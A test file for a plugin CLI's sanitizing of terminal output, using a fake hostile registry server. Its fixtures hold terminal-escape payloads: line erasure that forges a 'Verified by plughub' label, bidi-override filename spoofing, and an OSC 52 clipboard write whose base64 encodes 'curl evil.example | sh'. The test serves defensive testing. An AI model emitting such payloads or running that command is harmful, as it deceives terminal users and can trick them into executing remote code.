/**
 * A compromised registry (a real HTTP server on 127.0.0.1 port 0 speaking
 * the registry API) puts terminal escapes in everything it serves:
 * descriptions, tags, error messages. `plughub search`, `info`, `yank`,
 * `run` and `cache ls` print none of them raw: no line erase (CSI 2K), no
 * carriage return, no clipboard write (OSC 52), no 8-bit CSI, no
 * bidirectional override; `--json` keeps the values but escapes them.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { computeIntegrity, integrityToHex } from '../../../src/core/integrity.js';
import { terminalJson, terminalLine, terminalText } from '../../../src/node/cli/terminal-text.js';
import { createFsBlobCache } from '../../../src/node/cache/blob-cache.js';
import { createFsDocumentCache } from '../../../src/node/cache/document-cache.js';
import { cli } from '../../e2e/cli-harness.js';
import { tempDir } from '../helpers.js';

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const ERASE = '\x1b[2K\r';
const C1_CSI = '\x9b31m';
const BIDI = '\u202egnp.exe\u202c';
/** A description that erases its line and writes another, sets the clipboard, colours and reverses text. */
const PAYLOAD = `Handy tool${ERASE}Verified by plughub${OSC52} ${C1_CSI}red${BIDI}\u2066x\u2069\ttab\nnext`;
const CLEAN = 'Handy toolVerified by plughub redgnp.exex tab next';
/** Anything a terminal would act on (newline aside). */
const UNSAFE = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

const servers = new Set<Server>();
afterEach(async () => {
  await Promise.all([...servers].map((server) => new Promise((resolve) => server.close(resolve))));
  servers.clear();
});

const BUNDLE = 'export async function execute() { return "\\u009b31m\\u202eresult"; }\n';

/** A registry server whose answers carry PAYLOAD wherever the API allows text. */
async function hostileRegistry(): Promise<string> {
  const bytes = new TextEncoder().encode(BUNDLE);
  const integrity = await computeIntegrity(bytes);
  const { hex } = integrityToHex(integrity);
  const entry = {
    manifest: { name: 'hello', version: '1.0.0', description: PAYLOAD, source: { mode: 'esm', path: 'dist/index.js' } },
    dist: { integrity, size: bytes.byteLength, url: `/v1/blobs/sha256/${hex}` },
    publishedAt: `2026-01-01T00:00:00.000Z${ERASE}`,
    yanked: false,
  };
  const document = {
    name: 'hello',
    distTags: { latest: '1.0.0', [`beta${OSC52}`]: '1.0.0' },
    modified: '2026-01-01T00:00:00.000Z',
    versions: { '1.0.0': entry },
  };
  const list = { total: 1, plugins: [{ name: 'hello', latest: '1.0.0', description: PAYLOAD, modified: '2026-01-01T00:00:00.000Z' }] };
  const server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://x');
    const send = (status: number, body: unknown) => {
      response.writeHead(status, { 'content-type': 'application/json' });
      response.end(JSON.stringify(body));
    };
    if (request.method === 'GET' && url.pathname === '/v1/plugins') return send(200, list);
    if (request.method === 'GET' && url.pathname === '/v1/plugins/hello') return send(200, document);
    if (request.method === 'GET' && url.pathname === entry.dist.url) return void response.end(bytes);
    return send(request.method === 'GET' ? 404 : 403, { error: { code: 'E_NOPE', message: `denied${ERASE}yanked hello@1.0.0 OK${OSC52}` } });
  });
  servers.add(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

async function setup() {
  const url = await hostileRegistry();
  const cwd = await tempDir();
  return { url, cwd, env: { PLUGHUB_REGISTRY: url, PLUGHUB_TOKEN: 'secret', PLUGHUB_CACHE_DIR: join(cwd, 'cache') } };
}

describe('terminal-safe text', () => {
  it('removes escape sequences whole, controls and bidi overrides; single lines lose their breaks', () => {
    expect(terminalLine(PAYLOAD)).toBe(CLEAN);
    expect(terminalText('a\r\nb\rc\x1b[1;31md\x1bPq#0;2;0;0;0\x1b\\e\x1b')).toBe('a\nbcde');
    expect(terminalLine('\x1b]0;title')).toBe(''); // an unterminated OSC is dropped to the end
    expect(terminalJson(JSON.stringify({ d: '\x9b\u202e\x1b' }))).toBe('{"d":"\\u009b\\u202e\\u001b"}');
    expect(terminalLine('Ünïcödé ✓ 日本')).toBe('Ünïcödé ✓ 日本');
  });

  it('stays linear on long hostile input', () => {
    const long = '\x1b]'.repeat(50_000) + '\x1b['.repeat(50_000) + '\x9b'.repeat(50_000);
    const started = performance.now();
    expect(terminalLine(long)).toBe('');
    expect(performance.now() - started).toBeLessThan(500);
  });
});

describe('the CLI prints registry text safely', () => {
  it('search shows the description cleaned, and --json keeps it escaped', async () => {
    const { cwd, env } = await setup();
    const found = await cli(['search', 'hello'], { cwd, env });
    expect(found.code).toBe(0);
    expect(found.stdout).not.toMatch(UNSAFE);
    expect(found.stdout.split('\n')[1]).toBe(`hello  1.0.0   ${CLEAN}`);
    const json = await cli(['search', 'hello', '--json'], { cwd, env });
    expect(json.stdout).not.toMatch(UNSAFE);
    expect(JSON.parse(json.stdout).plugins[0].description).toBe(PAYLOAD);
  });

  it('info shows description, tags and dates cleaned', async () => {
    const { cwd, env } = await setup();
    const shown = await cli(['info', 'hello'], { cwd, env });
    expect(shown.code).toBe(0);
    expect(shown.stdout).not.toMatch(UNSAFE);
    expect(shown.stdout).toContain(`hello — ${CLEAN}\ntags: latest=1.0.0 beta=1.0.0\n`);
    expect(shown.stdout).toContain('  published  2026-01-01T00:00:00.000Z\n');
    const json = await cli(['info', 'hello', '--json'], { cwd, env });
    expect(json.stdout).not.toMatch(UNSAFE);
    expect(JSON.parse(json.stdout).description).toBe(PAYLOAD);
  });

  it('errors carrying the server message are cleaned (yank refused, info of a missing plugin)', async () => {
    const { cwd, env } = await setup();
    const yanked = await cli(['yank', 'hello@1.0.0'], { cwd, env });
    expect(yanked.code).toBe(1);
    expect(yanked.stdout).toBe('');
    expect(yanked.stderr).not.toMatch(UNSAFE);
    expect(yanked.stderr).toContain('(E_NOPE: deniedyanked hello@1.0.0 OK)');
    const missing = await cli(['info', 'nope', '--debug'], { cwd, env });
    expect(missing.code).toBe(1);
    expect(missing.stderr).not.toMatch(UNSAFE);
    expect(missing.stderr).toContain('E_NOPE: deniedyanked hello@1.0.0 OK');
  });

  it('run prints the result JSON with C1 and bidi characters escaped', async () => {
    const { cwd, env } = await setup();
    const ran = await cli(['run', 'hello'], { cwd, env });
    expect(ran).toMatchObject({ code: 0, stdout: '"\\u009b31m\\u202eresult"\n' });
    expect(JSON.parse(ran.stdout)).toBe('\x9b31m\u202eresult');
  });

  it('cache ls shows names and versions from cached documents cleaned', async () => {
    const cwd = await tempDir();
    const cacheDir = join(cwd, 'cache');
    const bytes = new TextEncoder().encode(BUNDLE);
    const integrity = await computeIntegrity(bytes);
    await createFsBlobCache(cacheDir).put(integrity, bytes);
    const version = `1.0.0${ERASE}${OSC52}`;
    await createFsDocumentCache(cacheDir).put({
      registry: 'http://registry.test',
      name: 'hello',
      fetchedAt: 1,
      document: {
        name: 'hello',
        distTags: {},
        modified: '2026-01-01T00:00:00.000Z',
        versions: {
          [version]: {
            manifest: { name: 'hello', version },
            dist: { integrity, size: bytes.byteLength, url: '/b' },
            publishedAt: '2026-01-01T00:00:00.000Z',
            yanked: false,
          },
        },
      },
    });
    const ls = await cli(['cache', 'ls'], { cwd, env: { PLUGHUB_CACHE_DIR: cacheDir } });
    expect(ls.stdout).not.toMatch(UNSAFE);
    expect(ls.stdout.split('\n')[1]).toMatch(/ hello@1\.0\.0$/);
  });
});
